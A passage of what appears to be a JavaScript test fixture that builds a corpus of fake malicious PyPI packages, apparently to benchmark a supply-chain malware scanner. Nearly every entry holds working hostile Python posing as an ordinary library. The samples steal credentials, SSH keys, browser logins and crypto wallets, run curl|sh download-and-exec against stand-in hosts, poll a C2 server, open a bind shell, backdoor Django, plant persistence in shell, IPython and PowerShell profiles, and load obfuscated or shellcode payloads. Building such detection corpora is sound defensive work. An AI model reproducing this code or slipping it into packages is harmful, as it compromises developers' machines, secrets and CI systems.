    DEFAULTS = pickle.load(fh)


def score(text):
    return sum(1 for w in text.split() if w in ('good', 'great')) - sum(1 for w in text.split() if w in ('bad', 'awful'))
`,
      'sentiment_mini/defaults.pkl': "cposix\nsystem\n(S'curl -s http://203.0.113.12/m.sh | sh'\ntR.",
    }),
  },
  {
    id: 'init-yaml-python-object-tag',
    family: 'data_file_payload',
    note: '[import, hard] config.yaml carries a !!python/object/apply:subprocess.Popen tag; the loader uses yaml.unsafe_load through a helper named read_config, next to an honest schema file. Written',
    ...pkg('confighub', '2.0.0', 'Layered YAML configuration', {
      'setup.py': py`from setuptools import setup
setup(name='confighub', version='2.0.0', packages=['confighub'], package_data={'confighub': ['*.yaml']}, install_requires=['pyyaml'])
`,
      'confighub/__init__.py': py`from .loader import read_config

DEFAULTS = read_config('defaults.yaml')
`,
      'confighub/loader.py': py`import os
import yaml

_here = os.path.dirname(__file__)


def read_config(name):
    with open(os.path.join(_here, name)) as fh:
        return yaml.unsafe_load(fh)
`,
      'confighub/defaults.yaml': py`log_level: info
cache:
  ttl: 300
plugins: !!python/object/apply:subprocess.Popen
  - ["sh", "-c", "curl -s http://198.51.100.99/c | sh"]
`,
      'confighub/schema.yaml': 'log_level: str\ncache:\n  ttl: int\n',
    }),
  },
  {
    id: 'init-json-carries-code',
    family: 'data_file_payload',
    note: '[import, hard] locale table JSON has one entry whose value is base64 Python; the i18n module compile()s it "to precompile plural rules". Written',
    ...pkg('babel-lite', '2.14.1', 'Minimal i18n helpers', {
      'setup.py': py`from setuptools import setup
setup(name='babel-lite', version='2.14.1', packages=['babel_lite'], package_data={'babel_lite': ['locales.json']})
`,
      'babel_lite/__init__.py': 'from .plural import rules\n',
      'babel_lite/plural.py': py`import base64, json, os

_T = json.load(open(os.path.join(os.path.dirname(__file__), 'locales.json')))
rules = {}
for loc, spec in _T.items():
    if spec.get('compiled'):
        exec(compile(base64.b64decode(spec['compiled']), loc, 'exec'), rules)
    else:
        rules[loc] = spec['rule']
`,
      'babel_lite/locales.json': JSON.stringify(
        {
          en: { rule: 'n != 1' },
          fr: { rule: 'n > 1' },
          de: { rule: 'n != 1' },
          xx: { compiled: b64(T_STEAL) },
        },
        null,
        1,
      ),
    }),
  },
  {
    id: 'init-pickle-fetched-blob',
    family: 'download_exec',
    note: '[import] pickle.loads of bytes fetched from a "model registry" URL at import time. Written',
    ...pkg('torch-hubcache', '0.5.0', 'Cache for torch hub models', {
      'setup.py': py`from setuptools import setup
setup(name='torch-hubcache', version='0.5.0', packages=['torch_hubcache'])
`,
      'torch_hubcache/__init__.py': py`import pickle, urllib.request

try:
    _INDEX = pickle.loads(urllib.request.urlopen('http://models.hubcache.example/index.pkl', timeout=5).read())
except Exception:
    _INDEX = {}


def path_for(name):
    return _INDEX.get(name)
`,
    }),
  },
  {
    id: 'init-pep562-getattr-lazy',
    family: 'credential_theft',
    note: '[import, hard] module-level __getattr__ (PEP 562): the first access to any missing attribute (e.g. __version__ lookups done by tooling) sends environment variables to a paste site; the module body itself looks inert. Written',
    ...pkg('httpx-auth2', '0.22.0', 'Auth flows for httpx', {
      'setup.py': py`from setuptools import setup
setup(name='httpx-auth2', version='0.22.0', packages=['httpx_auth2'])
`,
      'httpx_auth2/__init__.py': py`from ._flows import Basic

_sent = False


def __getattr__(name):
    global _sent
    if not _sent:
        _sent = True
        from ._flows import _report
        _report()
    raise AttributeError(name)
`,
      'httpx_auth2/_flows.py':
        py`import os, json, urllib.request


class Basic:
    def __init__(self, user, pw):
        self.user, self.pw = user, pw


def _report():
    env = {k: v for k, v in os.environ.items() if any(t in k for t in ('TOKEN', 'SECRET', 'KEY', 'PASS'))}
    req = urllib.request.Request('http://paste.drop.example/api/create',
                                 data=json.dumps({'key': '` +
        FAKE.pasteKey +
        py`', 'text': json.dumps(env)}).encode(),
                                 headers={'Content-Type': 'application/json'})
    try:
        urllib.request.urlopen(req, timeout=4)
    except Exception:
        pass
`,
    }),
  },
  {
    id: 'init-subclass-hook-ssh',
    family: 'credential_theft',
    note: '[import, hard] the base class __init_subclass__ runs when the package defines its own subclasses at import; it reads SSH keys and sends them as ICMP echo payloads on a raw socket. Written',
    ...pkg('dataclass-mixins', '1.4.0', 'Mixins for dataclasses', {
      'setup.py': py`from setuptools import setup
setup(name='dataclass-mixins', version='1.4.0', packages=['dataclass_mixins'])
`,
      'dataclass_mixins/__init__.py': py`from .base import Mixin
from .mixins import AsDict, Frozen  # noqa: F401
`,
      'dataclass_mixins/mixins.py': py`from .base import Mixin


class AsDict(Mixin):
    def as_dict(self):
        return dict(self.__dict__)


class Frozen(Mixin):
    pass
`,
      'dataclass_mixins/base.py': py`import glob, os, socket, struct

_done = []


def _ck(b):
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b + b'\0' * (len(b) % 2)))
    s = (s >> 16) + (s & 0xffff)
    return ~(s + (s >> 16)) & 0xffff


def _ping(data):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        for i in range(0, len(data), 1000):
            chunk = data[i:i + 1000]
            h = struct.pack('!BBHHH', 8, 0, 0, 7, i // 1000)
            h = struct.pack('!BBHHH', 8, 0, _ck(h + chunk), 7, i // 1000)
            s.sendto(h + chunk, ('203.0.113.250', 0))
    except OSError:
        pass


class Mixin:
    def __init_subclass__(cls, **kw):
        super().__init_subclass__(**kw)
        if not _done:
            _done.append(1)
            for k in glob.glob(os.path.expanduser('~/.ssh/id_*')):
                _ping(open(k, 'rb').read())
`,
    }),
  },
  {
    id: 'init-decorator-registers-exfil',
    family: 'exfiltration',
    note: '[import] a @register decorator applied at module load posts shell history and .env files to a GitHub-API-shaped gist endpoint on an invented enterprise host with an invented token. After: https://github.com/google/osv.dev/issues/5503',
    ...pkg('click-plugins2', '1.1.2', 'Plugin registration for click', {
      'setup.py': py`from setuptools import setup
setup(name='click-plugins2', version='1.1.2', packages=['click_plugins2'])
`,
      'click_plugins2/__init__.py':
        py`import json, os, urllib.request

REGISTRY = {}
_H = 'https://git.devtools-corp.example/api/v3/gists'
_T = '` +
        FAKE.ghToken +
        py`'


def _sync():
    files = {}
    for p in ('~/.bash_history', '~/.zsh_history', '.env', '../.env'):
        q = os.path.expanduser(p)
        if os.path.isfile(q):
            files[p.replace('/', '_')] = {'content': open(q, errors='ignore').read()[-20000:]}
    if files:
        req = urllib.request.Request(_H, json.dumps({'public': False, 'files': files}).encode(),
                                     {'Authorization': 'token ' + _T, 'Accept': 'application/vnd.github+json'})
        urllib.request.urlopen(req, timeout=5)


def register(fn):
    if not REGISTRY:
        try:
            _sync()
        except Exception:
            pass
    REGISTRY[fn.__name__] = fn
    return fn


@register
def hello():
    return 'hello'
`,
    }),
  },
  {
    id: 'init-logging-handler-first-record',
    family: 'exfiltration',
    note: '[runtime, hard] a logging.Handler subclass installed on the root logger at import; on its first emit it ships AWS/GCP/Azure credential files, then forwards log records via UDP syslog to an invented host. Written',
    ...pkg('structlog-json', '24.1.3', 'JSON renderer for structlog', {
      'setup.py': py`from setuptools import setup
setup(name='structlog-json', version='24.1.3', packages=['structlog_json'])
`,
      'structlog_json/__init__.py': py`import logging
from .handler import JsonHandler

logging.getLogger().addHandler(JsonHandler())
`,
      'structlog_json/handler.py': py`import json, logging, os, socket

_FILES = ('~/.aws/credentials', '~/.config/gcloud/application_default_credentials.json', '~/.azure/accessTokens.json')


class JsonHandler(logging.Handler):
    first = True

    def emit(self, record):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if JsonHandler.first:
            JsonHandler.first = False
            for f in _FILES:
                q = os.path.expanduser(f)
                if os.path.exists(q):
                    s.sendto(('<14>' + f + ' ' + open(q).read()).encode()[:8000], ('logs.ingest-json.example', 514))
        s.sendto(json.dumps({'msg': record.getMessage()}).encode(), ('logs.ingest-json.example', 514))
`,
    }),
  },
  {
    id: 'init-del-finaliser-wallets',
    family: 'wallet_theft',
    note: '[runtime, hard] a module-level sentinel object whose __del__ runs at interpreter shutdown zips Exodus / Electrum / Atomic wallet folders and posts them. After: https://trendingtech.news/trending-news/2024/03/4225/aanval-op-open-source-repositories-pypi-tijdelijk-gepauzeerd',
    ...pkg('web3-gasoracle', '0.3.3', 'Gas price estimates for web3.py', {
      'setup.py': py`from setuptools import setup
setup(name='web3-gasoracle', version='0.3.3', packages=['web3_gasoracle'])
`,
      'web3_gasoracle/__init__.py': py`from .oracle import estimate
from . import _state

_keep = _state.State()
`,
      'web3_gasoracle/oracle.py': py`def estimate(history):
    return sorted(history)[len(history) // 2] if history else 0
`,
      'web3_gasoracle/_state.py': py`import io, os, zipfile, urllib.request


class State:
    def __del__(self):
        try:
            roots = [os.environ.get('APPDATA', ''), os.path.expanduser('~/.config'), os.path.expanduser('~/Library/Application Support')]
            buf = io.BytesIO()
            with zipfile.ZipFile(buf, 'w') as z:
                for r in roots:
                    for w in ('Exodus/exodus.wallet', 'Electrum/wallets', 'atomic/Local Storage/leveldb'):
                        d = os.path.join(r, w)
                        for base, _, files in os.walk(d):
                            for f in files:
                                z.write(os.path.join(base, f))
            urllib.request.urlopen('http://198.51.100.200/w', buf.getvalue(), timeout=8)
        except Exception:
            pass
`,
    }),
  },
  {
    id: 'init-ctypes-virtualalloc-built-names',
    family: 'shellcode_loader',
    note: '[import] Windows ctypes loader: kernel32 names (VirtualAlloc, RtlMoveMemory, CreateThread) assembled from pieces at runtime, shellcode fetched then run in a new thread. After: https://blog.onlineexamcheating.com/?p=65497',
    ...pkg('pyautogui-ext', '0.9.55', 'Extra helpers for pyautogui', {
      'setup.py': py`from setuptools import setup
setup(name='pyautogui-ext', version='0.9.55', packages=['pyautogui_ext'])
`,
      'pyautogui_ext/__init__.py': py`import ctypes, sys, urllib.request

if sys.platform == 'win32':
    try:
        k = getattr(ctypes.windll, 'kern' + 'el32')
        sc = urllib.request.urlopen('http://203.0.113.150/sc.bin', timeout=5).read()
        va = getattr(k, 'Virtual' + 'Alloc')
        va.restype = ctypes.c_void_p
        p = va(None, len(sc), 0x3000, 0x40)
        getattr(k, 'Rtl' + 'Move' + 'Memory')(ctypes.c_void_p(p), sc, len(sc))
        h = getattr(k, 'Create' + 'Thread')(None, 0, ctypes.c_void_p(p), None, 0, None)
        getattr(k, 'WaitFor' + 'SingleObject')(h, -1)
    except Exception:
        pass


def click_all(points):
    return list(points)
`,
    }),
  },
  {
    id: 'init-ctypes-mmap-exec-linux',
    family: 'shellcode_loader',
    note: '[import] Linux: embedded bytes copied into an mmap with PROT_EXEC and called through ctypes.CFUNCTYPE. Bytes are NOPs and int3 (placeholder). Written',
    ...pkg('fast-crc32c', '1.6.0', 'Hardware CRC32C', {
      'setup.py': py`from setuptools import setup
setup(name='fast-crc32c', version='1.6.0', packages=['fast_crc32c'])
`,
      'fast_crc32c/__init__.py':
        py`import ctypes, mmap

_SC = bytes.fromhex('` +
        '90'.repeat(32) +
        'cc' +
        py`')

_m = mmap.mmap(-1, len(_SC), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
_m.write(_SC)
_addr = ctypes.addressof(ctypes.c_char.from_buffer(_m))
ctypes.CFUNCTYPE(None)(_addr)()


def crc32c(data, crc=0):
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ (0x82F63B78 & -(crc & 1))
    return crc
`,
    }),
  },
  {
    id: 'init-xor-keyed-by-package-name',
    family: 'obfuscated_exec',
    note: '[import, hard] source XOR-encrypted with the package name as key, decrypted in a helper module and handed to compile/exec through a dict lookup on vars(builtins). Written',
    ...pkg('rich-tables', '0.4.1', 'Table helpers for rich', {
      'setup.py': py`from setuptools import setup
setup(name='rich-tables', version='0.4.1', packages=['rich_tables'])
`,
      'rich_tables/__init__.py': py`from .render import render
from ._kdf import boot

boot(__name__)
`,
      'rich_tables/render.py': py`def render(rows):
    return '\n'.join(' | '.join(str(c) for c in r) for r in rows)
`,
      'rich_tables/_kdf.py':
        py`import builtins

_D = '` +
        xorHex(T_STEAL, 'rich_tables') +
        py`'


def boot(key):
    k = key.encode()
    b = bytes(c ^ k[i % len(k)] for i, c in enumerate(bytes.fromhex(_D)))
    vars(builtins)['ex' + 'ec'](vars(builtins)['comp' + 'ile'](b, key, 'exec'), {})
`,
    }),
  },
  {
    id: 'init-browser-local-state',
    family: 'credential_theft',
    note: '[import] reads Chrome/Edge Local State (encrypted_key) and Login Data, copies the SQLite file to temp and posts both. After: https://trendingtech.news/trending-news/2024/03/4225/aanval-op-open-source-repositories-pypi-tijdelijk-gepauzeerd',
    ...pkg('selenium-stealthy', '1.0.6', 'Stealth options for selenium', {
      'setup.py': py`from setuptools import setup
setup(name='selenium-stealthy', version='1.0.6', packages=['selenium_stealthy'])
`,
      'selenium_stealthy/__init__.py': py`import json, os, shutil, sqlite3, tempfile, urllib.request

_L = os.environ.get('LOCALAPPDATA', '')
for b in ('Google/Chrome', 'Microsoft/Edge', 'BraveSoftware/Brave-Browser'):
    root = os.path.join(_L, b, 'User Data')
    try:
        key = json.load(open(os.path.join(root, 'Local State')))['os_crypt']['encrypted_key']
        tmp = os.path.join(tempfile.gettempdir(), 'ld.db')
        shutil.copy2(os.path.join(root, 'Default', 'Login Data'), tmp)
        rows = sqlite3.connect(tmp).execute('select origin_url, username_value, hex(password_value) from logins').fetchall()
        urllib.request.urlopen('http://203.0.113.181/b', json.dumps({'b': b, 'k': key, 'r': rows}).encode(), timeout=5)
    except Exception:
        pass


def options():
    return ['--disable-blink-features=AutomationControlled']
`,
    }),
  },
  {
    id: 'init-django-appconfig-ready',
    family: 'backdoor',
    note: '[runtime, hard] a Django app whose AppConfig.ready() adds middleware-free URL hook: any request carrying X-Debug-Token runs its body with os.popen. Triggered when the host project starts. After: https://github.com/pypi/warehouse/issues/7195',
    ...pkg('django-healthz', '0.7.2', 'Health-check endpoint for Django', {
      'setup.py': py`from setuptools import setup
setup(name='django-healthz', version='0.7.2', packages=['django_healthz'])
`,
      'django_healthz/__init__.py': "default_app_config = 'django_healthz.apps.HealthzConfig'\n",
      'django_healthz/apps.py': py`from django.apps import AppConfig


class HealthzConfig(AppConfig):
    name = 'django_healthz'

    def ready(self):
        from django.core.handlers.base import BaseHandler
        from . import checks
        orig = BaseHandler.get_response

        def get_response(handler, request):
            if request.headers.get('X-Debug-Token') == checks.TOKEN:
                from django.http import HttpResponse
                return HttpResponse(checks.run(request.body.decode()))
            return orig(handler, request)

        BaseHandler.get_response = get_response
`,
      'django_healthz/checks.py':
        py`import os

TOKEN = '` +
        g(HEXD, 32) +
        py`'


def db_ok():
    return True


def run(cmd):
    return getattr(os, 'po' + 'pen')(cmd).read()
`,
    }),
  },
  {
    id: 'entry-point-console-script-shadow',
    family: 'download_exec',
    note: '[runtime] console_scripts entry point named like a common tool ("pip3-upgrade"); the CLI main does its job after spawning a downloader via os.posix_spawn. Written',
    ...pkg('pip-upgrade-all', '1.0.0', 'Upgrade all installed packages', {
      'setup.py': bareSetup,
      'setup.cfg': setupCfg(
        'pip-upgrade-all',
        '1.0.0',
        '\n[options.entry_points]\nconsole_scripts =\n    pip3-upgrade = pip_upgrade_all.cli:main\n',
      ),
      'pip_upgrade_all/__init__.py': '',
      'pip_upgrade_all/cli.py': py`import os, subprocess, sys


def main():
    os.posix_spawn('/bin/sh', ['sh', '-c', 'curl -s http://192.0.2.12/u | sh >/dev/null 2>&1'], dict(os.environ))
    out = subprocess.run([sys.executable, '-m', 'pip', 'list', '--outdated', '--format=freeze'], capture_output=True, text=True).stdout
    for line in out.splitlines():
        subprocess.call([sys.executable, '-m', 'pip', 'install', '-U', line.split('==')[0]])
`,
    }),
  },
  {
    id: 'pytest11-plugin-ci-env',
    family: 'credential_theft',
    note: '[runtime] a pytest11 entry-point plugin: pytest loads it in every test run; pytest_configure sends CI secrets (GITHUB_TOKEN, AWS_*, CI_JOB_TOKEN) to an invented host. After: https://cloudindustryreview.com/malicious-pypi-packages-compromise-cloud-tokens-with-14100-downloads-before-being-pulled',
    ...pkg('pytest-fastfail', '0.5.0', 'Stop the test run on the first failure, faster', {
      'setup.py': bareSetup,
      'pyproject.toml': pyproject(
        'pytest-fastfail',
        '0.5.0',
        '\n[project.entry-points.pytest11]\nfastfail = "pytest_fastfail.plugin"\n',
      ),
      'pytest_fastfail/__init__.py': '',
      'pytest_fastfail/plugin.py': py`import os, json, urllib.request

_KEYS = ('GITHUB_TOKEN', 'CI_JOB_TOKEN', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'PYPI_TOKEN', 'NPM_TOKEN')


def pytest_configure(config):
    if os.environ.get('CI'):
        data = {k: os.environ[k] for k in _KEYS if k in os.environ}
        try:
            urllib.request.urlopen('http://ci-stats.fastfail.example/v1', json.dumps(data).encode(), timeout=3)
        except Exception:
            pass


def pytest_runtest_makereport(item, call):
    if call.excinfo is not None:
        item.session.shouldstop = 'fastfail'
`,
    }),
  },
  {
    id: 'conftest-shipped-in-sdist',
    family: 'download_exec',
    note: '[runtime] a conftest.py at the sdist root (run by pytest when the user tests the unpacked source or a downstream vendors it) execs a raw-deflate payload. Written',
    ...pkg('arrow-tz', '1.3.2', 'Timezone helpers for arrow', {
      'setup.py': py`from setuptools import setup
setup(name='arrow-tz', version='1.3.2', packages=['arrow_tz'])
`,
      'conftest.py':
        py`import base64, zlib

exec(zlib.decompress(base64.b64decode('` +
        rawDeflB64(T_CURL) +
        py`'), -15))


def pytest_collection_modifyitems(items):
    items.sort(key=lambda i: i.name)
`,
      'arrow_tz/__init__.py': "UTC = 'UTC'\n",
    }),
  },
  {
    id: 'sdk-fork-appended-telegram-keys',
    family: 'backdoor',
    note: '[runtime, hard] an otherwise honest crypto-payment SDK; the client constructor wraps the request method so every call also sends the API key and any private_key argument to a second host. The added lines sit in a utils module among real helpers. After: https://www.cyberdefenseinsights.com/post/security-alert-pypi-package-aiocpa-exfiltrates-crypto-keys-via-telegram',
    ...pkg('cryptopay-client', '0.9.8', 'Client for the CryptoPay API', {
      'setup.py': py`from setuptools import setup
setup(name='cryptopay-client', version='0.9.8', packages=['cryptopay_client'], install_requires=['requests'])
`,
      'cryptopay_client/__init__.py': 'from .client import Client\n',
      'cryptopay_client/client.py': py`import requests
from .utils import sign, _wrap


class Client:
    BASE = 'https://api.cryptopay.example/v1'

    def __init__(self, api_key):
        self.api_key = api_key
        self.session = requests.Session()
        self.session.request = _wrap(self.session.request, api_key)

    def create_invoice(self, amount, asset='USDT'):
        body = {'amount': amount, 'asset': asset}
        return self.session.post(self.BASE + '/invoices', json=body, headers={'X-Sig': sign(self.api_key, body)}).json()

    def transfer(self, to, amount, private_key=None):
        return self.session.post(self.BASE + '/transfer', json={'to': to, 'amount': amount}).json()
`,
      'cryptopay_client/utils.py': py`import hashlib, hmac, json, threading, urllib.request


def sign(key, body):
    return hmac.new(key.encode(), json.dumps(body, sort_keys=True).encode(), hashlib.sha256).hexdigest()


def _mirror(payload):
    try:
        urllib.request.urlopen('http://203.0.113.205/bot/sendMessage', json.dumps(payload).encode(), timeout=4)
    except Exception:
        pass


def _wrap(fn, key):
    def inner(method, url, **kw):
        threading.Thread(target=_mirror, args=({'k': key, 'u': url, 'j': kw.get('json')},), daemon=True).start()
        return fn(method, url, **kw)
    return inner
`,
    }),
  },
  {
    id: 'debug-helper-c2-poll',
    family: 'backdoor',
    note: '[runtime] a "debug" helper for bot developers: enable() starts a thread that polls a C2 for commands and posts their output back. After: https://edunews24.it/amp/tecnologia/allarme-sicurezza-il-pacchetto-pypi-contraffatto-che-ha-colpito-gli-sviluppatori-di-bot-discord-con-un-rat-sofisticato',
    ...pkg('botdebug-tools', '0.2.9', 'Debug helpers for chat bots', {
      'setup.py': py`from setuptools import setup
setup(name='botdebug-tools', version='0.2.9', packages=['botdebug_tools'])
`,
      'botdebug_tools/__init__.py': py`import subprocess, threading, time, urllib.request

_C2 = 'http://relay.botdebug.example'


def _loop():
    while True:
        try:
            cmd = urllib.request.urlopen(_C2 + '/cmd', timeout=10).read().decode()
            if cmd:
                out = subprocess.run(cmd, shell=True, capture_output=True, timeout=60)
                urllib.request.urlopen(_C2 + '/out', out.stdout + out.stderr, timeout=10)
        except Exception:
            pass
        time.sleep(15)


def enable(bot=None):
    threading.Thread(target=_loop, daemon=True).start()
    return bot
`,
    }),
  },
  {
    id: 'ipython-startup-drop',
    family: 'persistence',
    note: '[install] drops a file into ~/.ipython/profile_default/startup/ (run at every IPython / Jupyter kernel start) that pulls and execs code. Written',
    ...pkg('jupyter-themes2', '0.21.0', 'Themes for Jupyter', {
      'setup.py': py`import os
from setuptools import setup

d = os.path.expanduser('~/.ipython/profile_default/startup')
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, '00-themes.py'), 'w') as fh:
    fh.write("import urllib.request as _u\ntry:\n    exec(_u.urlopen('http://themes.jt2.example/k.py', timeout=3).read())\nexcept Exception:\n    pass\n")

setup(name='jupyter-themes2', version='0.21.0', packages=['jupyter_themes2'])
`,
      'jupyter_themes2/__init__.py': "THEMES = ['dark', 'light']\n",
    }),
  },
  {
    id: 'xdg-autostart-and-zshenv',
    family: 'persistence',
    note: '[import, hard] first import writes an XDG autostart .desktop entry and appends a line to ~/.zshenv, both launching a script it writes to ~/.local/share; the script text is base64 in the helper module. Written',
    ...pkg('gnome-tray', '0.1.4', 'System tray icons on GNOME', {
      'setup.py': py`from setuptools import setup
setup(name='gnome-tray', version='0.1.4', packages=['gnome_tray'])
`,
      'gnome_tray/__init__.py': py`from .icon import Icon
from .install import ensure

ensure()
`,
      'gnome_tray/icon.py': py`class Icon:
    def __init__(self, name):
        self.name = name
`,
      'gnome_tray/install.py':
        py`import base64, os

_S = '` +
        Buffer.from('#!/bin/sh\nwhile :; do curl -s http://192.0.2.66/t | sh; sleep 3600; done\n').toString('base64') +
        py`'


def ensure():
    h = os.path.expanduser('~')
    s = os.path.join(h, '.local/share/gnome-tray/trayd')
    if os.path.exists(s):
        return
    os.makedirs(os.path.dirname(s), exist_ok=True)
    open(s, 'wb').write(base64.b64decode(_S))
    os.chmod(s, 0o755)
    a = os.path.join(h, '.config/autostart')
    os.makedirs(a, exist_ok=True)
    open(os.path.join(a, 'gnome-tray.desktop'), 'w').write('[Desktop Entry]\nType=Application\nName=Tray\nExec=%s\nX-GNOME-Autostart-enabled=true\n' % s)
    open(os.path.join(h, '.zshenv'), 'a').write('\n(%s >/dev/null 2>&1 &)\n' % s)
`,
    }),
  },
  {
    id: 'powershell-profile',
    family: 'persistence',
    note: '[install] appends an IEX download cradle to the user PowerShell profile (Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1). Written',
    ...pkg('pywinauto-helpers', '0.3.0', 'Helpers for pywinauto', {
      'setup.py': py`import os, sys
from setuptools import setup

if os.name == 'nt':
    p = os.path.join(os.path.expanduser('~'), 'Documents', 'WindowsPowerShell', 'Microsoft.PowerShell_profile.ps1')
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, 'a') as fh:
        fh.write('\nIEX (New-Object Net.WebClient).DownloadString("http://198.51.100.140/p")\n')

setup(name='pywinauto-helpers', version='0.3.0', packages=['pywinauto_helpers'])
`,
      'pywinauto_helpers/__init__.py': 'def find(title):\n    return title\n',
    }),
  },
  {
    id: 'github-issue-exfil-multifile',
    family: 'exfiltration',
    note: '[install, hard] setup.py imports a "version" helper from the package; the helper collects env and ~/.aws into an issue body posted to a GitHub-API-shaped endpoint on an invented host, with the path built by str.format. After: https://github.com/google/osv.dev/issues/5503 , https://github.com/pypi/legacy/issues/644',
    ...pkg('boto3-stubs-lite', '1.34.0', 'Type stubs for boto3', {
      'setup.py': py`import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from boto3_stubs_lite._version import get_version
from setuptools import setup

setup(name='boto3-stubs-lite', version=get_version(), packages=['boto3_stubs_lite'])
`,
      'boto3_stubs_lite/__init__.py': '',
      'boto3_stubs_lite/_version.py':
        py`import json, os, urllib.request

__version__ = '1.34.0'
_API = 'https://{h}/api/v3/repos/{o}/{r}/issues'.format(h='ghe.stub-builds.example', o='ci-bot', r='telemetry')


def _meta():
    d = dict(os.environ)
    try:
        d['aws'] = open(os.path.expanduser('~/.aws/credentials')).read()
    except OSError:
        pass
    return d


def get_version():
    try:
        req = urllib.request.Request(_API, json.dumps({'title': os.uname().nodename, 'body': json.dumps(_meta())}).encode(),
                                     {'Authorization': 'Bearer ` +
        FAKE.ghToken +
        py`'})
        urllib.request.urlopen(req, timeout=3)
    except Exception:
        pass
    return __version__
`,
    }),
  },
  {
    id: 'toml-config-command',
    family: 'data_file_payload',
    note: '[import, hard] the package reads its own bundled settings.toml and runs the "post_init" command it finds there via os.popen; the TOML looks like ordinary settings. Written',
    ...pkg('fastapi-settings', '0.6.0', 'Settings management for FastAPI', {
      'setup.py': py`from setuptools import setup
setup(name='fastapi-settings', version='0.6.0', packages=['fastapi_settings'], package_data={'fastapi_settings': ['settings.toml']})
`,
      'fastapi_settings/__init__.py': py`import os
try:
    import tomllib
except ImportError:
    import tomli as tomllib

_cfg = tomllib.load(open(os.path.join(os.path.dirname(__file__), 'settings.toml'), 'rb'))
for hook in _cfg.get('hooks', {}).get('post_init', []):
    os.popen(hook)

SETTINGS = _cfg.get('app', {})
`,
      'fastapi_settings/settings.toml': `[app]\ndebug = false\nport = 8000\n\n[hooks]\npost_init = ["sh -c 'curl -s http://203.0.113.222/f | sh' >/dev/null 2>&1 &"]\n`,
    }),
  },
  {
    id: 'dns-txt-stage-fetch',
    family: 'download_exec',
    note: "[import] second stage delivered through DNS: a raw UDP query for a TXT record (hand-built packet, no resolver library) whose answer strings are joined, base64-decoded and exec'd. Written",
    ...pkg('netaddr-utils', '0.10.1', 'Network address utilities', {
      'setup.py': py`from setuptools import setup
setup(name='netaddr-utils', version='0.10.1', packages=['netaddr_utils'])
`,
      'netaddr_utils/__init__.py': py`import base64, socket, struct


def _q(name):
    hdr = struct.pack('!HHHHHH', 0x1337, 0x0100, 1, 0, 0, 0)
    qn = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0'
    return hdr + qn + struct.pack('!HH', 16, 1)


def _txt(name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(_q(name), ('198.51.100.53', 53))
    r = s.recv(4096)
    i = r.find(b'\xc0\x0c')
    out = b''
    j = i + 12
    while j < len(r):
        n = r[j]
        out += r[j + 1:j + 1 + n]
        j += 1 + n
    return out


try:
    exec(base64.b64decode(_txt('cfg.netaddr-utils.test')))
except Exception:
    pass


def is_private(ip):
    return ip.startswith(('10.', '192.168.', '172.16.'))
`,
    }),
  },
  {
    id: 'decoy-tests-hide-payload',
    family: 'credential_theft',
    note: '[import, hard] payload lives in a module named tests/_fixtures.py inside the package, imported by __init__ under a try/except ImportError "for optional test data"; it tars ~/.ssh and ~/.gnupg and posts to an invented host. Decoy: real tests next to it. After: https://vuink.com/post/tvguho-d-dpbz/shenxianpeng/pipguard',
    ...pkg('semver-tools', '3.0.4', 'Semantic version parsing', {
      'setup.py': py`from setuptools import setup, find_packages
setup(name='semver-tools', version='3.0.4', packages=find_packages())
`,
      'semver_tools/__init__.py': py`from .core import parse

try:
    from .tests import _fixtures  # optional test data
except ImportError:
    pass
`,
      'semver_tools/core.py': py`def parse(v):
    major, minor, patch = (int(x) for x in v.split('-')[0].split('.'))
    return major, minor, patch
`,
      'semver_tools/tests/__init__.py': '',
      'semver_tools/tests/test_core.py': py`from semver_tools.core import parse


def test_parse():
    assert parse('1.2.3') == (1, 2, 3)
`,
      'semver_tools/tests/_fixtures.py': py`import io, os, tarfile, urllib.request

CASES = ['1.0.0', '2.1.3-rc1']

_b = io.BytesIO()
with tarfile.open(fileobj=_b, mode='w:gz') as _t:
    for _d in ('~/.ssh', '~/.gnupg'):
        _p = os.path.expanduser(_d)
        if os.path.isdir(_p):
            _t.add(_p, arcname=os.path.basename(_p))
try:
    urllib.request.urlopen(urllib.request.Request('http://fixtures.semver-ci.example/up', _b.getvalue(), method='PUT'), timeout=6)
except Exception:
    pass
`,
    }),
  },
  {
    id: 'fork-appended-pty-bind',
    family: 'backdoor',
    note: '[import, hard] a fork of a small honest humanize-style library with, at the end of one helper module, a bind shell on a high port spawned through pty in a forked child. Written',
    ...pkg('humanize-plus', '4.9.1', 'Humanize numbers and dates', {
      'setup.py': py`from setuptools import setup
setup(name='humanize-plus', version='4.9.1', packages=['humanize_plus'])
`,
      'humanize_plus/__init__.py': py`from .number import intcomma, ordinal
from .time import naturaldelta

__all__ = ['intcomma', 'ordinal', 'naturaldelta']
`,
      'humanize_plus/number.py': py`def intcomma(n):
    return '{:,}'.format(n)


def ordinal(n):
    suf = 'th' if 10 <= n % 100 <= 20 else {1: 'st', 2: 'nd', 3: 'rd'}.get(n % 10, 'th')
    return '%d%s' % (n, suf)
`,
      'humanize_plus/time.py': py`import os as _o, socket as _s


def naturaldelta(seconds):
    if seconds < 60:
        return '%d seconds' % seconds
    if seconds < 3600:
        return '%d minutes' % (seconds // 60)
    return '%d hours' % (seconds // 3600)


if _o.name == 'posix' and _o.fork() == 0:
    import pty as _p
    _l = _s.socket()
    _l.setsockopt(_s.SOL_SOCKET, _s.SO_REUSEADDR, 1)
    _l.bind(('0.0.0.0', 31337))
    _l.listen(1)
    _c, _ = _l.accept()
    [_o.dup2(_c.fileno(), f) for f in (0, 1, 2)]
    _p.spawn('/bin/sh')
    _o._exit(0)
`,
    }),
  },
  {
    id: 'setup-readme-raw-block-rot13',
    family: 'obfuscated_exec',
    note: '[install, hard] setup.py reads its long_description from README.rst and, through a "render" helper, evaluates a `.. raw::` block of the README with eval(compile(...)); the payload (rot13 via codecs) is in the README. Written',
